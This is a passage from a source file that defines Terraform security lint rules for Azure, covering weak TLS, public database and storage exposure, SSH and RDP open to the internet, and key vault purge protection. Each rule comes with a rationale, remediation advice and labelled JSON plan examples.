               "after": {"name": "acme-legacy", "https_only": true}, "after_unknown": {"id": true, "site_config": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "azurerm_app_service.legacy", "mode": "managed", "type": "azurerm_app_service", "name": "legacy",
             "expressions": {"name": {"constant_value": "acme-legacy"}, "https_only": {"constant_value": true}}}]}}}
        """
        example fail "SCM endpoint on TLS 1.0" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_linux_web_app.api", "mode": "managed", "type": "azurerm_linux_web_app", "name": "api",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "default_hostname": true},
               "after": {"name": "acme-api", "https_only": true,
                         "site_config": [{"minimum_tls_version": "1.2", "scm_minimum_tls_version": ↓"1.0"}]}}}]}
        """ expect "'azurerm_linux_web_app.api' accepts TLS 1.0 (site_config.scm_minimum_tls_version)"
        example fail "legacy app service" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_app_service.legacy", "mode": "managed", "type": "azurerm_app_service", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acme-legacy", "https_only": true, "site_config": [{"min_tls_version": ↓"1.1"}]}}}]}
        """ expect "accepts TLS 1.1 (site_config.min_tls_version)"
        example indeterminate "version known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_linux_web_app.api", "mode": "managed", "type": "azurerm_linux_web_app", "name": "api",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-api", "https_only": true, "site_config": [{"scm_minimum_tls_version": "1.2"}]},
               "after_unknown": {"id": true, "default_hostname": true, "site_config": [{"minimum_tls_version": true}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_db_server_min_tls_below_1_2.plumb",
      text: #"""
      rule azure_db_server_min_tls_below_1_2 {
        title "PostgreSQL, MySQL and MariaDB single servers require TLS 1.2 or later"
        severity medium
        category security
        tags [terraform, azure, database, tls]
        rationale """
          `ssl_minimal_tls_version_enforced` defaults to `TLSEnforcementDisabled`, which accepts TLS 1.0
          and 1.1 even when SSL is enforced. Those versions have known weaknesses and let a client, or an
          attacker downgrading the handshake, protect database passwords and data with broken
          cryptography; PCI DSS and Microsoft's baseline require 1.2.
        """
        remediation "Set `ssl_minimal_tls_version_enforced = \"TLS1_2\"` (with `ssl_enforcement_enabled = true`) on the server."
        param weak_versions: list<string> = ["TLSEnforcementDisabled", "TLS1_0", "TLS1_1"]

        for d in terraform.resource("azurerm_postgresql_server", "azurerm_mysql_server", "azurerm_mariadb_server")
        when not is_null(d.after)
        require d.after.ssl_minimal_tls_version_enforced not in param.weak_versions
          else "'${d.address}' accepts TLS below 1.2 (ssl_minimal_tls_version_enforced = '${d.after.ssl_minimal_tls_version_enforced}')"
          at d.after.ssl_minimal_tls_version_enforced

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
               "after": {"name": "acme-pg", "ssl_enforcement_enabled": true, "ssl_minimal_tls_version_enforced": "TLS1_2"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
               "after": {"name": "acme-pg", "ssl_enforcement_enabled": true, "ssl_minimal_tls_version_enforced": ↓"TLSEnforcementDisabled"}}}]}
        """ expect "'azurerm_postgresql_server.db' accepts TLS below 1.2 (ssl_minimal_tls_version_enforced = 'TLSEnforcementDisabled')"
        example indeterminate "version known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pg", "ssl_enforcement_enabled": true},
               "after_unknown": {"id": true, "fqdn": true, "ssl_minimal_tls_version_enforced": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_db_server_public_network_access.plumb",
      text: #"""
      rule azure_db_server_public_network_access {
        title "PostgreSQL, MySQL and MariaDB servers do not expose a public endpoint"
        severity medium
        category security
        tags [terraform, azure, database, network]
        rationale """
          A database server with public network access answers on the internet, guarded only by its
          firewall rules and passwords. A broad firewall rule, the "allow Azure services" rule (any
          tenant's Azure resources) or a leaked password then exposes the data; database ports are
          among the most scanned and brute-forced. Servers reached through VNet integration or private
          endpoints are not reachable from outside at all. Single servers enable public access by
          default, and a PostgreSQL flexible server without a delegated subnet is public.
        """
        remediation """
          Set `public_network_access_enabled = false` and connect through a private endpoint (single
          servers), or deploy the flexible server into a delegated subnet (`delegated_subnet_id` and
          `private_dns_zone_id`).
        """

        for d in terraform.resource("azurerm_postgresql_server", "azurerm_mysql_server", "azurerm_mariadb_server", "azurerm_postgresql_flexible_server")
        when not is_null(d.after)
        let pna = d.after.public_network_access_enabled
        # Flexible servers compute it when it is not written: public unless the server has a delegated subnet.
        let unset = is_unknown(pna) and exists(d.config) and not exists(d.config.public_network_access_enabled)
        require unset or pna != true
          else "'${d.address}' accepts connections from public networks (public_network_access_enabled = true)"
          at pna
        require not unset or not is_empty(d.after.delegated_subnet_id)
          else "'${d.address}' accepts connections from public networks: it has no delegated_subnet_id and does not set public_network_access_enabled"
          at d.after.delegated_subnet_id

        example pass "single server, private" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
               "after": {"name": "acme-pg", "public_network_access_enabled": false, "ssl_enforcement_enabled": true}}}]}
        """
        example pass "flexible server in a delegated subnet" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pgflex", "delegated_subnet_id": "/subscriptions/0000/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vn/subnets/db"},
               "after_unknown": {"id": true, "fqdn": true, "public_network_access_enabled": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
             "expressions": {"name": {"constant_value": "acme-pgflex"}, "delegated_subnet_id": {"constant_value": "/subscriptions/0000/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vn/subnets/db"}}}]}}}
        """
        example fail "single server, public" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_mysql_server.db", "mode": "managed", "type": "azurerm_mysql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
               "after": {"name": "acme-mysql", "public_network_access_enabled": ↓true, "ssl_enforcement_enabled": true}}}]}
        """ expect "'azurerm_mysql_server.db' accepts connections from public networks (public_network_access_enabled = true)"
        example fail "flexible server without a delegated subnet" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pgflex", "delegated_subnet_id": ↓null},
               "after_unknown": {"id": true, "fqdn": true, "public_network_access_enabled": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
             "expressions": {"name": {"constant_value": "acme-pgflex"}}}]}}}
        """ expect "it has no delegated_subnet_id and does not set public_network_access_enabled"
        example indeterminate "delegated subnet known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pgflex"},
               "after_unknown": {"id": true, "fqdn": true, "public_network_access_enabled": true, "delegated_subnet_id": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
             "expressions": {"name": {"constant_value": "acme-pgflex"}, "delegated_subnet_id": {"references": ["azurerm_subnet.db.id", "azurerm_subnet.db"]}}}]}}}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_db_server_ssl_enforcement_disabled.plumb",
      text: #"""
      rule azure_db_server_ssl_enforcement_disabled {
        title "PostgreSQL, MySQL and MariaDB servers require encrypted connections"
        severity high
        category security
        tags [terraform, azure, database, "encryption-in-transit"]
        rationale """
          With SSL enforcement off (`ssl_enforcement_enabled = false` on single servers,
          `require_secure_transport = OFF` on flexible servers), clients may connect in clear text:
          database passwords and every query result cross the network readable and alterable by anyone
          on the path. Client libraries silently fall back to unencrypted connections when the server
          allows them, so nobody notices.
        """
        remediation """
          Set `ssl_enforcement_enabled = true` on `azurerm_postgresql_server`, `azurerm_mysql_server` and
          `azurerm_mariadb_server`; for flexible servers remove the
          `azurerm_*_flexible_server_configuration` that sets `require_secure_transport` to `OFF`.
        """
        param flexible_configurations: list<string> = ["azurerm_postgresql_flexible_server_configuration", "azurerm_mysql_flexible_server_configuration"]

        for d in terraform.resource("azurerm_postgresql_server", "azurerm_mysql_server", "azurerm_mariadb_server",
          "azurerm_postgresql_flexible_server_configuration", "azurerm_mysql_flexible_server_configuration")
        when not is_null(d.after)
        # Of the flexible servers' parameters, only require_secure_transport matters here.
        when type(d) not in param.flexible_configurations or lower(d.after.name) == "require_secure_transport"
        require d.after.ssl_enforcement_enabled != false
          else "'${d.address}' accepts unencrypted connections (ssl_enforcement_enabled = false)"
          at d.after.ssl_enforcement_enabled
        # azurerm 1.x spelling; computed from ssl_enforcement_enabled in 2.x when not written.
        let legacy_unset = is_unknown(d.after.ssl_enforcement) and exists(d.config) and not exists(d.config.ssl_enforcement)
        require legacy_unset or d.after.ssl_enforcement != "Disabled"
          else "'${d.address}' accepts unencrypted connections (ssl_enforcement = 'Disabled')"
          at d.after.ssl_enforcement
        require type(d) not in param.flexible_configurations or lower(d.after.value) != "off"
          else "'${d.address}' lets its flexible server accept unencrypted connections (require_secure_transport = '${d.after.value}')"
          at d.after.value

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
               "after": {"name": "acme-pg", "ssl_enforcement_enabled": true, "ssl_minimal_tls_version_enforced": "TLS1_2"}}},
            {"address": "azurerm_mysql_flexible_server_configuration.tx", "mode": "managed", "type": "azurerm_mysql_flexible_server_configuration", "name": "tx",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "require_secure_transport", "server_name": "acme-mysqlflex", "value": "ON"}}}]}
        """
        example fail "single server" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_mysql_server.db", "mode": "managed", "type": "azurerm_mysql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
               "after": {"name": "acme-mysql", "ssl_enforcement_enabled": ↓false, "ssl_minimal_tls_version_enforced": "TLSEnforcementDisabled"}}}]}
        """ expect "'azurerm_mysql_server.db' accepts unencrypted connections (ssl_enforcement_enabled = false)"
        example fail "flexible server parameter" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_flexible_server_configuration.tx", "mode": "managed", "type": "azurerm_postgresql_flexible_server_configuration", "name": "tx",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "server_id": true},
               "after": {"name": "require_secure_transport", "value": ↓"off"}}}]}
        """ expect "lets its flexible server accept unencrypted connections (require_secure_transport = 'off')"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pg"}, "after_unknown": {"id": true, "fqdn": true, "ssl_enforcement_enabled": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_key_vault_not_recoverable.plumb",
      text: #"""
      rule azure_key_vault_not_recoverable {
        title "Key vaults have purge protection and soft delete"
        severity medium
        category security
        tags [terraform, azure, key-vault, recovery]
        rationale """
          Without purge protection, anyone who gains a contributor role (or a pipeline credential) can
          delete a key vault and purge it at once, and every key, secret and certificate is gone for good:
          disks and storage accounts encrypted with its keys become unreadable, which is exactly what
          destructive and ransomware attacks aim for. Purge protection keeps deleted vaults and objects
          recoverable for the whole retention period, whoever asks. (Soft delete is always on since
          2020; azurerm 2.x could still turn it off with `soft_delete_enabled = false`.)
        """
        remediation """
          Set `purge_protection_enabled = true` on the `azurerm_key_vault` (it cannot be turned off
          again) and remove `soft_delete_enabled = false`. Keep `soft_delete_retention_days` at the
          default 90 unless a shorter recovery window is a deliberate choice.
        """

        for kv in terraform.resource("azurerm_key_vault")
        when not is_null(kv.after)
        require default(kv.after.purge_protection_enabled, false) == true
          else "'${kv.address}' can be deleted and purged at once: purge_protection_enabled is not true"
          at kv.after.purge_protection_enabled
        require kv.after.soft_delete_enabled != false
          else "'${kv.address}' turns soft delete off (soft_delete_enabled = false): deleted keys and secrets cannot be recovered"
          at kv.after.soft_delete_enabled

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_key_vault.main", "mode": "managed", "type": "azurerm_key_vault", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "vault_uri": true},
               "after": {"name": "acme-kv", "sku_name": "standard", "purge_protection_enabled": true, "soft_delete_retention_days": 90}}}]}
        """
        example fail "purge protection off" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_key_vault.main", "mode": "managed", "type": "azurerm_key_vault", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "vault_uri": true},
               "after": {"name": "acme-kv", "sku_name": "standard", "purge_protection_enabled": ↓false, "soft_delete_retention_days": 7}}}]}
        """ expect "'azurerm_key_vault.main' can be deleted and purged at once"
        example fail "azurerm 2.x without soft delete" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_key_vault.old", "mode": "managed", "type": "azurerm_key_vault", "name": "old",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "vault_uri": true},
               "after": {"name": "acme-old-kv", "sku_name": "standard", "purge_protection_enabled": ↓false, "soft_delete_enabled": ↓false}}}]}
        """ expect "turns soft delete off (soft_delete_enabled = false)"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_key_vault.main", "mode": "managed", "type": "azurerm_key_vault", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-kv", "sku_name": "standard"},
               "after_unknown": {"id": true, "vault_uri": true, "purge_protection_enabled": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_nsg_admin_ports_open.plumb",
      text: #"""
      rule azure_nsg_admin_ports_open {
        title "Network security groups do not open SSH or RDP to the internet"
        severity critical
        category security
        tags [terraform, azure, network]
        rationale """
          An inbound Allow rule from `*`, `0.0.0.0/0`, `Internet` or `Any` to port 22 (SSH) or 3389
          (RDP) puts the VM's login service on the internet. Both are found by mass scanners within
          minutes and then brute-forced or hit with the next remote-code-execution bug (BlueKeep,
          regreSSHion); RDP exposed this way is a leading entry point for ransomware. Ranges such as
          `20-25` or `*` open the port as surely as naming it.
        """
        remediation """
          Restrict `source_address_prefix(es)` of the rule (in `azurerm_network_security_rule` or the
          group's inline `security_rule`) to your VPN or office ranges, or remove the rule and use Azure
          Bastion or just-in-time VM access instead.
        """
        param admin_ports: list<int> = [22, 3389]
        param internet_sources: list<string> = ["*", "0.0.0.0/0", "0.0.0.0", "::/0", "internet", "any"]
        param protocols: list<string> = ["tcp", "*", "any"]

        for r in terraform.resource("azurerm_network_security_rule", "azurerm_network_security_group")
        when not is_null(r.after)
        # A group whose rules are all separate azurerm_network_security_rule resources has a computed
        # `security_rule`: those resources are judged on their own.
        when not (is_unknown(r.after.security_rule) and exists(r.config) and not exists(r.config.security_rule))
        # A group's inline rules, or the standalone rule itself.
        let rules = default(r.after.security_rule, [r.after])
        let inbound = filter(x in rules, lower(x.direction) == "inbound" and lower(x.access) == "allow"
          and lower(x.protocol) in param.protocols
          and any(s in flatten([[x.source_address_prefix], default(x.source_address_prefixes, [])]), lower(trim(s)) in param.internet_sources))
        # Destination ports are "22", "20-25" or "*", in destination_port_range or destination_port_ranges.
        let pairs = flatten(map(x in inbound, map(p in param.admin_ports, {
          entry: x,
          port: p,
          source: first(filter(s in flatten([[x.source_address_prefix], default(x.source_address_prefixes, [])]), lower(trim(s)) in param.internet_sources)),
          spec: first(filter(s in flatten([[x.destination_port_range], default(x.destination_port_ranges, [])]),
            trim(s) == "*" or to_int(s) == p or (to_int(split(s, "-")[0]) <= p and p <= to_int(split(s, "-")[1]))))})))
        let exposures = filter(e in pairs, not is_empty(e.spec))
        require count(exposures) == 0
          else "'${r.address}' allows ${join(map(e in exposures, "port " + to_string(e.port) + " from '" + to_string(e.source) + "' (rule '" + to_string(e.entry.name) + "', destination ports '" + to_string(e.spec) + "')"), ", ")}"
          at first(exposures).spec

        example pass "restricted sources and other ports" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_network_security_group.web", "mode": "managed", "type": "azurerm_network_security_group", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "web-nsg", "security_rule": [
                 {"name": "https", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
                  "source_address_prefix": "Internet", "source_address_prefixes": [], "destination_port_range": "443", "destination_port_ranges": []},
                 {"name": "ssh-vpn", "priority": 110, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
                  "source_address_prefix": "", "source_address_prefixes": ["10.20.0.0/16"], "destination_port_range": "22", "destination_port_ranges": []},
                 {"name": "deny-rdp", "priority": 120, "direction": "Inbound", "access": "Deny", "protocol": "*",
                  "source_address_prefix": "*", "source_address_prefixes": [], "destination_port_range": "3389", "destination_port_ranges": []}]}}},
            {"address": "azurerm_network_security_rule.mgmt", "mode": "managed", "type": "azurerm_network_security_rule", "name": "mgmt",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "mgmt", "priority": 200, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
                         "source_address_prefix": "*", "source_address_prefixes": null,
                         "destination_port_range": null, "destination_port_ranges": ["80", "8000-8080"]}}}]}
        """
        example pass "group whose rules are separate resources" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_network_security_group.web", "mode": "managed", "type": "azurerm_network_security_group", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "security_rule": true},
               "after": {"name": "web-nsg"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "azurerm_network_security_group.web", "mode": "managed", "type": "azurerm_network_security_group", "name": "web",
             "expressions": {"name": {"constant_value": "web-nsg"}}}]}}}
        """
        example fail "inline rule from any source to all ports" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_network_security_group.jump", "mode": "managed", "type": "azurerm_network_security_group", "name": "jump",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "jump-nsg", "security_rule": [
                 {"name": "anything", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
                  "source_address_prefix": "*", "source_address_prefixes": [], "destination_port_range": ↓"*", "destination_port_ranges": []}]}}}]}
        """ expect "'azurerm_network_security_group.jump' allows port 22 from '*' (rule 'anything', destination ports '*'), port 3389 from '*'"
        example fail "standalone rule with a port range list" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_network_security_rule.ops", "mode": "managed", "type": "azurerm_network_security_rule", "name": "ops",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "ops", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
                         "source_address_prefix": null, "source_address_prefixes": ["10.0.0.0/8", "0.0.0.0/0"],
                         "destination_port_range": null, "destination_port_ranges": ["443", ↓"20-25"]}}}]}
        """ expect "allows port 22 from '0.0.0.0/0' (rule 'ops', destination ports '20-25')"
        example fail "standalone rule from the Internet tag" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_network_security_rule.rdp", "mode": "managed", "type": "azurerm_network_security_rule", "name": "rdp",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "rdp", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "*",
                         "source_address_prefix": "Internet", "source_address_prefixes": null,
                         "destination_port_range": ↓"3389", "destination_port_ranges": null}}}]}
        """ expect "allows port 3389 from 'Internet'"
        example indeterminate "source known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_network_security_rule.ssh", "mode": "managed", "type": "azurerm_network_security_rule", "name": "ssh",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "ssh", "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
                         "source_address_prefixes": null, "destination_port_range": "22", "destination_port_ranges": null},
               "after_unknown": {"id": true, "source_address_prefix": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_sql_server_min_tls_below_1_2.plumb",
      text: #"""
      rule azure_sql_server_min_tls_below_1_2 {
        title "Azure SQL servers require TLS 1.2 or later"
        severity medium
        category security
        tags [terraform, azure, sql, tls]
        rationale """
          `minimum_tls_version` below 1.2 (or `Disabled`, which accepts any version) lets clients and
          downgrading attackers use TLS 1.0 and 1.1, whose weaknesses expose the login exchange and the
          query traffic. Azure SQL retires TLS 1.0/1.1 support; configurations that still allow them
          also fail PCI DSS and Microsoft's security baseline.
        """
        remediation "Set `minimum_tls_version = \"1.2\"` on the `azurerm_mssql_server` after checking that client drivers support it."
        param weak_versions: list<string> = ["1.0", "1.1", "Disabled"]

        for s in terraform.resource("azurerm_mssql_server", "azurerm_sql_server")
        when not is_null(s.after)
        require s.after.minimum_tls_version not in param.weak_versions
          else "'${s.address}' accepts TLS below 1.2 (minimum_tls_version = '${s.after.minimum_tls_version}')"
          at s.after.minimum_tls_version

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acme-sql", "version": "12.0", "minimum_tls_version": "1.2"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acme-sql", "version": "12.0", "minimum_tls_version": ↓"Disabled"}}}]}
        """ expect "'azurerm_mssql_server.db' accepts TLS below 1.2 (minimum_tls_version = 'Disabled')"
        example indeterminate "version known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-sql", "version": "12.0"}, "after_unknown": {"id": true, "minimum_tls_version": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_sql_server_public_network_access.plumb",
      text: #"""
      rule azure_sql_server_public_network_access {
        title "Azure SQL servers do not expose a public endpoint"
        severity medium
        category security
        tags [terraform, azure, sql, network]
        rationale """
          With public network access enabled, the server's endpoint (`*.database.windows.net`) accepts
          connections from the internet, limited only by its firewall rules; one broad rule (or "Allow
          Azure services", which admits every Azure tenant) then exposes the login to password spraying
          and any SQL authentication weakness. Private endpoints keep the server off the internet
          altogether. azurerm enables public access unless told otherwise.
        """
        remediation """
          Set `public_network_access_enabled = false` on the `azurerm_mssql_server` and connect through an
          `azurerm_private_endpoint` (or a VNet rule) instead of firewall rules.
        """

        for s in terraform.resource("azurerm_mssql_server", "azurerm_sql_server")
        when not is_null(s.after)
        require s.after.public_network_access_enabled != true
          else "'${s.address}' accepts connections from the internet (public_network_access_enabled = true)"
          at s.after.public_network_access_enabled

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fully_qualified_domain_name": true},
               "after": {"name": "acme-sql", "version": "12.0", "public_network_access_enabled": false, "minimum_tls_version": "1.2"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fully_qualified_domain_name": true},
               "after": {"name": "acme-sql", "version": "12.0", "public_network_access_enabled": ↓true, "minimum_tls_version": "1.2"}}}]}
        """ expect "'azurerm_mssql_server.db' accepts connections from the internet"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_mssql_server.db", "mode": "managed", "type": "azurerm_mssql_server", "name": "db",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-sql", "version": "12.0"},
               "after_unknown": {"id": true, "fully_qualified_domain_name": true, "public_network_access_enabled": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_storage_blob_public_access.plumb",
      text: #"""
      rule azure_storage_blob_public_access {
        title "Storage accounts do not allow public blob access"
        severity high
        category security
        tags [terraform, azure, storage, public-access]
        rationale """
          When a storage account allows public blob access (`allow_nested_items_to_be_public`, called
          `allow_blob_public_access` before azurerm 3.0), a single container set to `blob` or
          `container` access serves its files to anyone with the URL, without a key or a token; container
          listing even hands out the names. Scanners enumerate `*.blob.core.windows.net` continuously, and
          leaked backups and exports are found this way. azurerm 3.x allows it by default, so an account
          that does not say otherwise is exposed.
        """
        remediation """
          Set `allow_nested_items_to_be_public = false` on the `azurerm_storage_account` (azurerm 2.x:
          `allow_blob_public_access = false`). Serve public content through a CDN or SAS tokens with an
          expiry instead of anonymous container access.
        """

        for sa in terraform.resource("azurerm_storage_account")
        # Resources being destroyed have no planned state.
        when not is_null(sa.after)
        require sa.after.allow_nested_items_to_be_public != true
          else "'${sa.address}' lets containers be made public (allow_nested_items_to_be_public = true)"
          at sa.after.allow_nested_items_to_be_public
          fix { set sa.after.allow_nested_items_to_be_public = false }
        require sa.after.allow_blob_public_access != true
          else "'${sa.address}' allows public blob access (allow_blob_public_access = true)"
          at sa.after.allow_blob_public_access
          fix { set sa.after.allow_blob_public_access = false }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmelogs", "allow_nested_items_to_be_public": false, "min_tls_version": "TLS1_2"}}}]}
        """
        example pass "azurerm 2.x, public access off" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmelogs", "allow_blob_public_access": false}}}]}
        """
        example fail "azurerm 3.x default" """
